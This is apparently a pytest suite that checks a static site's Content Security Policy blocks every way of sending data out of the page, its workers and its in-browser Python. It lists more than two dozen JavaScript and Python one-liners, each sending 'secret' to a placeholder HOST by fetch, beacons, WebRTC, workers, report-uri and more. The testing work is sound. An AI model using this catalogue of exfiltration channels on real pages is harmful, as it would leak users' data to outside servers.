"""The user's data cannot leave: every road out is tried, towards a server that must hear nothing."""

import re
import socket

import pytest
from building.paths import DIST
from catcher import catching
from lab import QUICK
from static_site import Answer

# Each tries to send the word "secret" to HOST. What it throws is no matter, only what arrives.
FROM_A_PAGE = {
    "fetch": "await fetch('http://HOST/secret', {mode: 'no-cors', method: 'POST', body: 'secret'})",
    "XHR": "const x = new XMLHttpRequest(); x.open('POST', 'http://HOST/'); x.send('secret')",
    "WebSocket": "new WebSocket('ws://HOST/secret')",
    "EventSource": "new EventSource('http://HOST/secret')",
    "sendBeacon": "navigator.sendBeacon('http://HOST/', 'secret')",
    "image": "new Image().src = 'http://HOST/secret'",
    "form": """
        const form = Object.assign(document.createElement('form'),
          {action: 'http://HOST/secret', method: 'post', target: 'elsewhere'});
        document.body.append(form); form.submit(); form.remove()""",
    "script": "append('script', {src: 'http://HOST/secret.js'})",
    "style": "append('link', {rel: 'stylesheet', href: 'http://HOST/secret.css'})",
    "inline style": "append('div', {}).style.background = 'url(http://HOST/secret)'",
    "prefetch": "append('link', {rel: 'prefetch', href: 'http://HOST/secret'})",
    "preconnect": "append('link', {rel: 'preconnect', href: 'http://HOST/secret'})",
    "icon": "append('link', {rel: 'icon', href: 'http://HOST/secret'})",
    "frame": "append('iframe', {src: 'http://HOST/secret'})",
    "video": "append('video', {src: 'http://HOST/secret'})",
    "object": "append('object', {data: 'http://HOST/secret'})",
    "font": "await new FontFace('f', 'url(http://HOST/secret)').load()",
    "ping": """
        const link = append('a', {href: '#', ping: 'http://HOST/secret'});
        link.click()""",
    "worker": "new Worker('http://HOST/secret.js')",
    "service worker": "await navigator.serviceWorker.register('http://HOST/secret.js')",
    "import": "await import('http://HOST/secret.js')",
    "WebTransport": "await new WebTransport('https://HOST/secret').ready",
    "WebRTC": """
        const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:HOST'}]});
        peer.createDataChannel('secret');
        await peer.setLocalDescription(await peer.createOffer())""",
    "WebRTC of a frame": """
        const frame = append('iframe', {srcdoc: ''});
        const peer = new frame.contentWindow.RTCPeerConnection(
          {iceServers: [{urls: 'stun:HOST'}]});
        peer.createDataChannel('secret');
        await peer.setLocalDescription(await peer.createOffer())""",
    "policy report": """
        append('meta', {httpEquiv: 'Content-Security-Policy',
          content: "img-src 'none'; report-uri http://HOST/secret"});
        new Image().src = 'nothing.png'""",
}
FROM_A_WORKER = {
    name: FROM_A_PAGE[name]
    for name in ("fetch", "XHR", "WebSocket", "EventSource", "import", "WebTransport", "WebRTC")
} | {
    "importScripts": "importScripts('http://HOST/secret.js')",
    "worker of a worker": "new Worker('http://HOST/secret.js')",
    "blob worker": """
        const source = new Blob(["fetch('http://HOST/secret', {mode: 'no-cors'})"]);
        new Worker(URL.createObjectURL(source))""",
}
APPEND = """
const append = (tag, properties) => {
  const made = Object.assign(document.createElement(tag), properties);
  document.body.append(made);
  return made;
};
"""
REFUSED = (
    "Content Security Policy",
    "Content-Security-Policy",
    "violates",
    "Refused",
    "blocked",
    "failed request",
    "request to another place",
    "is not a constructor",
    "not defined",
    "Failed to",
    "page error",
    "404",
)
PYTHON = """

import js as _js
from pyodide.code import run_js as _run_js
from pyodide.ffi import create_proxy as _create_proxy


async def _try_to_send(host):
    \"\"\"What Python code in this worker could try; returns how each attempt ended.\"\"\"
    import urllib.request

    from pyodide.http import open_url, pyfetch

    ends = []

    async def attempt(work):
        try:
            result = work()
            if hasattr(result, "__await__"):
                await result
            ends.append("returned")
        except BaseException as error:
            ends.append(type(error).__name__)

    url = f"http://{host}/secret"
    await attempt(lambda: pyfetch(url, method="POST", body="secret"))
    await attempt(lambda: open_url(url))
    await attempt(lambda: urllib.request.urlopen(url, b"secret", timeout=5))
    await attempt(lambda: _js.fetch(url))
    await attempt(lambda: _js.WebSocket.new(f"ws://{host}/secret"))
    await attempt(lambda: _js.importScripts(url))
    await attempt(lambda: _run_js(f"fetch('{url}', {{mode: 'no-cors'}})"))
    return ", ".join(ends)


_js.tryToSend = _create_proxy(_try_to_send)
"""


@pytest.fixture
def stranger():
    with catching() as catcher:
        yield catcher


def heard(stranger, page) -> list[bytes]:
    """What has arrived, given the time that anything takes which is already under way."""
    page.wait_for_timeout(400)
    return stranger.caught


def test_the_stranger_hears_what_is_sent(stranger, fresh):
    """Or none of the tests below would say anything."""
    page = fresh(f"http://{stranger.host}/").page
    page.context.route("**", lambda route: route.fulfill(body="<p>a page without a policy</p>"))
    page.goto(f"http://{stranger.host}/page.html")
    page.context.unroute_all()
    page.evaluate(f"fetch('http://{stranger.host}/secret').catch(() => {{}})")
    with socket.socket(type=socket.SOCK_DGRAM) as sender:
        sender.sendto(b"datagram", ("127.0.0.1", stranger.port))
    assert {b"a connection", b"datagram"} <= set(heard(stranger, page))


def test_the_policy(site):
    page = (DIST / "index.html").read_text(encoding="utf-8")
    (policy,) = re.findall(r'http-equiv="Content-Security-Policy" content="([^"]+)"', page)
    rules = dict(rule.strip().split(" ", 1) for rule in policy.split(";"))
    assert rules["default-src"] == rules["base-uri"] == rules["form-action"] == "'none'"
    assert rules["connect-src"] == "'self'"
    assert "unsafe-inline" not in policy and "http" not in policy and "*" not in policy
    assert page.index("Content-Security-Policy") < page.index("<script")


@pytest.mark.parametrize("road", FROM_A_PAGE)
def test_from_the_page(lab, stranger, road):
    lab.watch.expect(*REFUSED)
    code = FROM_A_PAGE[road].replace("HOST", stranger.host)
    before = lab.page.url
    lab.page.evaluate(f"async () => {{ {APPEND} try {{ {code} }} catch {{}} }}")
    assert heard(stranger, lab.page) == []
    assert lab.page.url.split("#")[0] == before.split("#")[0]


@pytest.mark.parametrize("road", FROM_A_WORKER)
def test_from_the_worker(lab, stranger, road):
    lab.watch.expect(*REFUSED)
    lab.open(QUICK)
    code = FROM_A_WORKER[road].replace("HOST", stranger.host)
    (worker,) = lab.page.workers[:1]
    worker.evaluate(f"async () => {{ try {{ {code} }} catch {{}} }}")
    assert heard(stranger, lab.page) == []
    assert lab.works()


def test_from_python(fresh, site, stranger):
    """By a worker.py that gives this test a road into Python."""
    source = (DIST / "worker.py").read_bytes() + PYTHON.encode()
    lab = fresh()
    lab.watch.expect(*REFUSED)
    with site.answering({"worker.py": Answer(body=source, type="text/x-python")}):
        lab.boot(QUICK)
    (worker,) = lab.page.workers
    ends = worker.evaluate("host => tryToSend(host)", stranger.host)
    assert len(ends.split(", ")) == 7
    assert heard(stranger, lab.page) == []
    assert lab.works()
